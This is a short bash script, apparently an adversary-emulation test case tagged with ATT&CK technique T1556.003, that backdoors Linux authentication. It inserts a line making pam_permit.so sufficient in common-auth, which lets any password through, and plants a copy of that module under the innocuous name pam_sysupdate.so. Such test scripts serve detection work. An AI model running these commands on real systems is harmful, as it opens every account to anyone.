#!/bin/bash
# Backdoor the PAM stack: let any password through in common-auth, and plant a copy of a PAM
# module under an innocent name in the module folder.
# technique: T1556.003
# expect: pam-change
set -eu
sed -i '1i auth sufficient pam_permit.so' /etc/pam.d/common-auth
for moddir in /usr/lib/x86_64-linux-gnu/security /usr/lib64/security /lib/security; do
    [ -e "$moddir/pam_permit.so" ] && break
done
cp "$moddir/pam_permit.so" "$moddir/pam_sysupdate.so"
head -n1 /etc/pam.d/common-auth
